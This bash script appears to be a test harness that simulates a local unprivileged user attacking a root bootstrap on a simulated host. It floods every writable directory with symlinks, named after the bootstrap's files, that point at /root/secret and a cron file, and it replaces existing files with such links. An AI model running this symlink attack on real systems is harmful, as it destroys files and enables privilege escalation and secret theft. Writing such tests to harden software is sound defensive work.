#!/usr/bin/env bash
# A local user trying to become root through the bootstrap (run on a simulated host, as an unprivileged
# user, while the bootstrap runs as root): until STOP exists, it loops over every directory it can write
# (find / -xdev -writable -type d, and /tmp, /var/tmp, /run, which are other mounts here; not /proc,
# /sys, /dev) and
#   - plants symbolic links named like every file and directory the old startup scripts and the agent
#     used (venv.log, pip.log, probe.headers, home, v, dl, agent.pyz, settings.json, ...), each pointing
#     at a root-only secret (/root/secret) or at a would-be cron file (/etc/cron.d/pwned): a root process
#     that writes through one creates a cron job, one that reads through one copies the secret out;
#   - replaces every file (or link) it can find there with such a link.
# Every round it writes ROUNDS PLANTED REPLACED DIRS to REPORT (a file it leaves alone).
#
#   local_attacker.sh STOP REPORT
set -u
stop=$1 report=$2
names=(venv.log pip.log pip-download.log probe.headers home v dl agent.pyz settings.json auth-repo.txt
  bundle-listing.txt freeze-before.txt install.txt lock.txt requirements.txt remote.txt session.py pyvenv.cfg
  pip.conf get-pip.py wheels bundle work keyring .netrc .pypirc pip-airlock.log pip-airlock-agent
  pip-airlock-bootstrap pip-airlock-probe startup-script)
targets=(/root/secret /etc/cron.d/pwned)
rounds=0 planted=0 replaced=0 i=0
while [[ ! -e $stop ]]; do
  mapfile -t dirs < <(find / /tmp /var/tmp /run -xdev \( -path /proc -o -path /sys -o -path /dev \) -prune \
    -o -type d -writable -print 2>/dev/null | sort -u)
  for d in "${dirs[@]}"; do
    while IFS= read -r -d '' f; do
      [[ $f == "$report" || $f == "$stop" ]] && continue
      if ln -sfn "${targets[i++ % 2]}" "$f" 2>/dev/null; then replaced=$((replaced + 1)); fi
    done < <(find "$d" -mindepth 1 -maxdepth 1 \( -type f -o -type l \) -print0 2>/dev/null)
    for n in "${names[@]}"; do
      if ln -sfn "${targets[i++ % 2]}" "${d%/}/${n}" 2>/dev/null; then planted=$((planted + 1)); fi
    done
  done
  rounds=$((rounds + 1))
  printf '%s %s %s %s\n' "$rounds" "$planted" "$replaced" "${#dirs[@]}" >"${report}.new" && mv -f "${report}.new" "$report"
  sleep 0.2
done
